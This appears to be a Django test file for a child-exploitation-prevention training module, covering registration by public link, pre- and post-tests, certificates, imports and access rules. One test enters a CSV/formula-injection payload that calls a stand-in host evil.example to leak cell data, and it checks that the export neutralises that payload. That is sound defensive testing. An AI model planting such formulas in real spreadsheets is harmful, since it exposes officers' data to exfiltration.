"""Training: modules, materials, question bank, sessions, tests from the link, knowledge gain and certificates."""

from __future__ import annotations

import io
import re
from datetime import date
from typing import Any

import pytest
from django.db import connection
from django.test import Client

from jaga.audit.models import AuditEvent
from jaga.conftest import run_worker
from jaga.programs.training.certificates import _latin, certificate_revoke, certificates_issue
from jaga.programs.training.imports import IMPORT_COLUMNS, ImportRejected, participants_import
from jaga.programs.training.models import (
    Certificate,
    Material,
    Module,
    Participant,
    ParticipantImportJob,
    Question,
    Score,
    TrainingSession,
)
from jaga.programs.training.selectors import gain
from jaga.programs.training.services import (
    ParticipantInput,
    module_create,
    participant_add,
    question_add,
    score_enter,
    session_create,
)

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


@pytest.fixture
def module(programme_officer: Any) -> Module:
    module = module_create(
        actor=programme_officer,
        title="Pencegahan ESKA",
        audience="police",
        language="id",
        objectives="Mengenali ESKA",
        pass_mark=70,
    )
    for text, options, answer in [
        ("Apa itu ESKA?", ["Eksploitasi seksual komersial anak", "Nama aplikasi"], 0),
        ("Usia anak menurut UU?", ["Di bawah 16", "Di bawah 18", "Di bawah 21"], 1),
        ("Ke mana melapor?", ["SAPA 129", "Tidak perlu"], 0),
        ("Apakah korban dihukum?", ["Ya", "Tidak"], 1),
    ]:
        question_add(actor=programme_officer, module=module, text=text, options=options, answer=answer)
    return module


@pytest.fixture
def session(programme_officer: Any, module: Module, orgs: dict) -> TrainingSession:
    return session_create(
        actor=programme_officer,
        organisations=[orgs["bali"]],
        module=module,
        starts_on=date(2026, 5, 4),
        ends_on=date(2026, 5, 5),
        online=False,
        place="Denpasar",
        trainers="Tim ECPAT",
    )


def _answers(module: Module, right: int) -> dict[str, str]:
    """Answers with the first ``right`` questions correct and the rest wrong."""
    answers = {}
    for k, question in enumerate(module.questions.filter(active=True)):
        wrong = (question.answer + 1) % len(question.options)
        answers[str(question.pk)] = str(question.answer if k < right else wrong)
    return answers


def test_a_participant_registers_from_the_link_takes_both_tests_and_the_certificate_checks_out(
    login_client: Any, programme_officer: Any, session: TrainingSession, module: Module
) -> None:
    officer = login_client(programme_officer)
    page = officer.get(f"/programs/training/sessions/{session.pk}/").content.decode()
    link = f"/pelatihan/{session.test_token}/"
    assert link in page and "data:image/svg+xml" in page  # the link and its QR code

    person = Client()
    assert person.get(link).status_code == 200
    response = person.post(
        link,
        {
            "action": "register",
            "register-full_name": "Putu Peserta",
            "register-organisation_name": "Polres Badung",
            "register-role": "Penyidik",
            "register-sex": "female",
        },
    )
    assert response.status_code == 302
    participant = Participant.objects.get()
    page = person.get(link).content.decode()
    assert participant.code in page and "Kerjakan Pre-test" in page and "Post-test: belum dibuka" in page

    # Every question must be answered; the page names the unanswered ones.
    take = f"{link}tes/pre/"
    partial = dict(list(_answers(module, 4).items())[:2])
    page = person.post(take, partial).content.decode()
    assert "3, 4" in page and not Score.objects.exists()
    assert person.post(take, _answers(module, 2)).status_code == 302
    assert Score.objects.get(kind="pre").score == 50
    assert person.get(take).status_code == 302  # taken once only
    assert person.get(f"{link}tes/post/").status_code == 302  # not open yet

    officer.post(f"/programs/training/sessions/{session.pk}/", {"action": "attendance", "present": [participant.pk]})
    officer.post(
        f"/programs/training/sessions/{session.pk}/",
        {"action": "tests", "tests-pre": "on", "tests-post": "on", "tests-self_registration": "on"},
    )
    assert person.post(f"{link}tes/post/", _answers(module, 4)).status_code == 302
    result = Score.objects.get(kind="post")
    assert (result.score, result.correct, result.asked, result.source) == (100, 4, 4, "online")
    certificate = Certificate.objects.get()  # attended and passed: issued at once
    page = person.get(link).content.decode()
    assert certificate.code in page
    pdf = person.get(f"{link}sertifikat.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert re.search(rb"/Subtype\s*/Image|re\s*f", pdf.content)  # the QR code is drawn

    # Anyone checks the code, typed loosely.
    check = Client().post("/sertifikat/", {"code": certificate.code.lower().replace("-", " ")}).content.decode()
    assert "berlaku" in check and "Putu Peserta" in check and module.title in check
    assert Client().get(f"/sertifikat/{certificate.code}/").status_code == 200

    got = gain(session.participants.all())
    assert (got.mean_pre, got.mean_post, got.mean_gain, got.passed, got.certificates) == (50, 100, 50, 1, 1)
    actions = set(AuditEvent.objects.values_list("action", flat=True))
    assert {
        "programs.training.participant_added",
        "programs.training.test_taken",
        "programs.training.certificate_issued",
        "programs.training.certificate_checked",
    } <= actions
    details = " ".join(str(d) for d in AuditEvent.objects.values_list("details", flat=True))
    assert "Putu" not in details


def test_a_wrong_or_guessed_certificate_code_reveals_nothing_and_guessing_is_limited(
    settings: Any, programme_officer: Any, session: TrainingSession
) -> None:
    settings.JAGA_CERTIFICATE_CHECK_LIMIT = 3
    client = Client()
    for guess in ["SERT-0000-0000-0000", "nonsense", "SERT-AAAA-BBBB-CCCC"]:
        response = client.post("/sertifikat/", {"code": guess})
        page = response.content.decode()
        assert response.status_code == 404 and "Tidak ada sertifikat dengan kode ini" in page
        assert session.module.title not in page
    response = client.post("/sertifikat/", {"code": "SERT-0000-0000-0001"})
    assert response.status_code == 429 and "Retry-After" in response


def test_a_revoked_certificate_says_so(programme_officer: Any, session: TrainingSession) -> None:
    person = participant_add(
        actor=programme_officer,
        session=session,
        data=ParticipantInput(full_name="Komang Uji", sex="male", attended=True),
    )
    score_enter(actor=programme_officer, participant=person, kind="post", score=90)
    assert certificates_issue(actor=programme_officer, session=session) == 1
    certificate = Certificate.objects.get()
    certificate_revoke(actor=programme_officer, certificate=certificate, reason="Data salah")
    page = Client().post("/sertifikat/", {"code": certificate.code}).content.decode()
    assert "dicabut" in page and "Komang Uji" not in page


@pytest.mark.django_db(transaction=True)
def test_participants_import_is_all_or_nothing_with_row_and_column(
    login_client: Any, programme_officer: Any, session: TrainingSession, orgs: dict
) -> None:
    from openpyxl import Workbook

    def xlsx(rows: list[list[Any]]) -> io.BytesIO:
        workbook = Workbook()
        for row in rows:
            workbook.active.append(row)
        buffer = io.BytesIO()
        workbook.save(buffer)
        buffer.seek(0)
        buffer.name = "peserta.xlsx"
        return buffer

    header = IMPORT_COLUMNS
    client = login_client(programme_officer)
    url = f"/programs/training/sessions/{session.pk}/"
    bad = xlsx(
        [
            header,
            ["Wayan Satu", orgs["bali"].name, "Pekerja sosial", "perempuan", "ya", 40, 80],
            ["Made Dua", "Polres Gianyar", "", "x", "ya", "", ""],
            ["Nyoman Tiga", "", "", "laki-laki", "ya", 140, ""],
        ]
    )
    assert client.post(url, {"action": "import", "import-file": bad}).status_code == 302
    assert 'http-equiv="refresh"' in client.get(url).content.decode(), "the page follows the job"
    run_worker()
    page = client.get(url).content.decode()
    assert "Tidak ada yang diimpor" in page and 'http-equiv="refresh"' not in page
    assert "<td>3</td><td>sex</td>" in page and "<td>4</td><td>pre_score</td>" in page
    assert not Participant.objects.exists()
    job = ParticipantImportJob.objects.get()
    assert (job.state, job.data) == ("failed", b""), "the file is erased when the job ends"
    good = xlsx(
        [
            header,
            ["Wayan Satu", orgs["bali"].name.upper(), "Pekerja sosial", "perempuan", "ya", 40, 80],
            ["Made Dua", "Polres Gianyar", "", "L", "tidak", "", ""],
        ]
    )
    assert client.post(url, {"action": "import", "import-file": good}).status_code == 302
    run_worker()
    assert "2 peserta diimpor" in client.get(url).content.decode()
    wayan = Participant.objects.get(role="Pekerja sosial")
    assert wayan.organisation == orgs["bali"] and wayan.attended
    assert Participant.objects.get(organisation_name="Polres Gianyar").sex == "male"
    assert sorted(Score.objects.values_list("kind", "score", "source")) == [
        ("post", 80, "imported"),
        ("pre", 40, "imported"),
    ]
    template = client.get("/programs/training/participants-template.xlsx")
    assert template.status_code == 200 and template.content.startswith(b"PK")
    exported = client.get(url, {"format": "xlsx"})
    assert exported.status_code == 200
    assert AuditEvent.objects.filter(action="programs.training.participants_exported").exists()


def test_participant_names_are_encrypted_at_rest(programme_officer: Any, session: TrainingSession) -> None:
    participant_add(
        actor=programme_officer,
        session=session,
        data=ParticipantInput(full_name="Ketut Rahasia Sekali", sex="female"),
    )
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT full_name FROM {Participant._meta.db_table}")
        stored = cursor.fetchone()[0]
    assert "Rahasia" not in stored
    assert Participant.objects.get().full_name == "Ketut Rahasia Sekali"


def test_module_materials_are_versioned_and_checked_by_content(
    login_client: Any, programme_officer: Any, module: Module
) -> None:
    client = login_client(programme_officer)
    url = f"/programs/training/modules/{module.pk}/"
    for title in ("Modul v1", "Modul v2"):
        upload = io.BytesIO(PDF)
        upload.name = "modul.pdf"
        response = client.post(url, {"action": "material", "material-title": title, "material-file": upload})
        assert response.status_code == 302
    assert list(Material.objects.values_list("version", flat=True)) == [2, 1]
    fake = io.BytesIO(b"\x89PNG\r\n\x1a\n not a pdf")
    fake.name = "modul.pdf"
    page = client.post(url, {"action": "material", "material-title": "x", "material-file": fake}).content.decode()
    assert "PDF, PowerPoint" in page and Material.objects.count() == 2
    download = client.get(f"/programs/training/materials/{Material.objects.get(version=1).pk}/")
    assert download.content == PDF
    # Question bank: the correct option must be given; retired questions are not asked.
    page = client.post(
        url,
        {
            "action": "question",
            "question-text": "Pertanyaan?",
            "question-option_1": "A",
            "question-option_2": "B",
            "question-answer": "3",
        },
    ).content.decode()
    assert "kosong" in page and module.questions.count() == 4
    question = module.questions.first()
    client.post(url, {"action": "retire", "question": question.pk})
    assert not Question.objects.get(pk=question.pk).active


def test_scores_entered_by_hand_and_the_gain_per_session(programme_officer: Any, session: TrainingSession) -> None:
    people = [
        participant_add(
            actor=programme_officer, session=session, data=ParticipantInput(full_name=f"P{k}", sex="female")
        )
        for k in range(3)
    ]
    for person, (pre, post) in zip(people, [(40, 80), (60, 90), (50, None)], strict=True):
        score_enter(actor=programme_officer, participant=person, kind="pre", score=pre)
        if post is not None:
            score_enter(actor=programme_officer, participant=person, kind="post", score=post)
    learnt = gain(session.participants.all())
    assert learnt.mean_pre == 50 and learnt.mean_post == 85 and learnt.mean_gain == 35
    assert learnt.passed == 2 and learnt.pass_share == 100
    with pytest.raises(Exception, match=r"0 to 100|0 hingga 100|0 sampai 100"):
        score_enter(actor=programme_officer, participant=people[0], kind="pre", score=101)


def test_training_pages_are_for_programme_officers(
    login_client: Any, caseworker_jakarta: Any, session: TrainingSession
) -> None:
    assert login_client(caseworker_jakarta).get("/programs/training/").status_code == 403
    assert Client().get("/programs/training/").status_code == 302
    assert Client().get("/pelatihan/not-a-real-link/").status_code == 404


def test_certificate_text_keeps_latin_1_and_simplifies_the_rest() -> None:
    assert _latin("Désirée Ōtomo 李") == "Désirée Otomo ?"


def test_modules_and_sessions_can_be_changed_and_keep_their_link_and_people(
    login_client: Any, programme_officer: Any, session: TrainingSession, module: Module, orgs: dict
) -> None:
    client = login_client(programme_officer)
    participant_add(actor=programme_officer, session=session, data=ParticipantInput(full_name="Tetap Ada", sex="male"))
    token = session.test_token
    edit = f"/programs/training/sessions/{session.pk}/edit/"
    page = client.get(edit).content.decode()
    assert "Denpasar" in page and "Ubah sesi" in page
    # A date input shows only an ISO value: in the Indonesian format the field would be empty.
    assert f'value="{session.starts_on:%Y-%m-%d}"' in page, "the session's dates are filled in"
    fields = {
        "module": module.pk,
        "starts_on": "2026-06-02",
        "ends_on": "2026-06-01",
        "place": "Singaraja",
        "region": "51.08",
        "trainers": "Tim baru",
        "organisations": [orgs["bali"].pk, orgs["ngo"].pk],
    }
    page = client.post(edit, fields).content.decode()
    assert "sebelum tanggal mulai" in page  # the end before the start: refused, nothing changed
    assert TrainingSession.objects.get().place == "Denpasar"
    assert client.post(edit, {**fields, "ends_on": "2026-06-03"}).status_code == 302
    changed = TrainingSession.objects.get()
    assert (changed.place, changed.test_token, changed.participants.count()) == ("Singaraja", token, 1)
    assert changed.organisations.count() == 2
    event = AuditEvent.objects.get(action="programs.training.session_changed")
    assert set(event.details["fields"]) >= {"place", "starts_on", "ends_on", "trainers", "region"}

    edit = f"/programs/training/modules/{module.pk}/edit/"
    data = {"title": module.title, "audience": "teachers", "language": "id", "objectives": "o", "pass_mark": 80}
    assert client.post(edit, data).status_code == 302
    assert Module.objects.get().pass_mark == 80 and Module.objects.get().audience == "teachers"
    assert "Nilai lulus" in client.post(edit, {**data, "pass_mark": 0}).content.decode()
    assert Module.objects.get().pass_mark == 80


def test_a_formula_typed_into_the_public_registration_never_runs_in_the_officers_download(
    login_client: Any, programme_officer: Any, session: TrainingSession
) -> None:
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Buka")'
    response = Client().post(
        f"/pelatihan/{session.test_token}/",
        {
            "action": "register",
            "register-full_name": hostile,
            "register-organisation_name": "@SUM(1+1)",
            "register-role": "-1+2",
            "register-sex": "female",
        },
    )
    assert response.status_code == 302
    officer = login_client(programme_officer)
    exported = officer.get(f"/programs/training/sessions/{session.pk}/", {"format": "xlsx"})
    workbook = load_workbook(io.BytesIO(exported.content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert hostile in [cell.value for cell in cells]
    assert "f" not in {cell.data_type for cell in cells}


def test_an_import_refuses_a_name_longer_than_the_forms_allow(programme_officer: Any, session: TrainingSession) -> None:
    data = ("full_name,sex\n" + "N" * 201 + ",perempuan\n").encode()  # the form takes 200
    with pytest.raises(ImportRejected) as refused:
        participants_import(actor=programme_officer, session=session, data=data)
    assert [error[:2] for error in refused.value.errors] == [(2, "full_name")]
    assert not Participant.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_participant_import_left_by_a_dead_worker_is_retried_or_cancelled_from_the_session_page(
    login_client: Any, programme_officer: Any, session: TrainingSession
) -> None:
    from datetime import timedelta

    from django.utils import timezone

    client = login_client(programme_officer)
    url = f"/programs/training/sessions/{session.pk}/"
    data = io.BytesIO(b"full_name,sex\nWayan Satu,perempuan\n")
    data.name = "peserta.csv"
    client.post(url, {"action": "import", "import-file": data})
    job = ParticipantImportJob.objects.get()
    assert b"Wayan" not in job.data, "the file waits encrypted"
    # The worker took it and died while checking rows.
    ParticipantImportJob.objects.update(state="validating", heartbeat_at=timezone.now() - timedelta(minutes=11))
    page = client.get(url).content.decode()
    assert "Coba lagi impor" in page and 'http-equiv="refresh"' not in page
    assert client.post(url, {"action": "import_retry", "job": job.pk}).status_code == 302
    run_worker()
    assert list(Participant.objects.values_list("full_name", flat=True)) == ["Wayan Satu"]
    refused = client.post(url, {"action": "import_cancel", "job": job.pk}).content.decode()
    assert "Impor ini tidak dapat dibatalkan lagi." in refused
    assert ParticipantImportJob.objects.get().state == "done", "a finished import cannot be cancelled"
    actions = set(AuditEvent.objects.values_list("action", flat=True))
    assert {"programs.training.import_stopped", "programs.training.import_retried"} <= actions
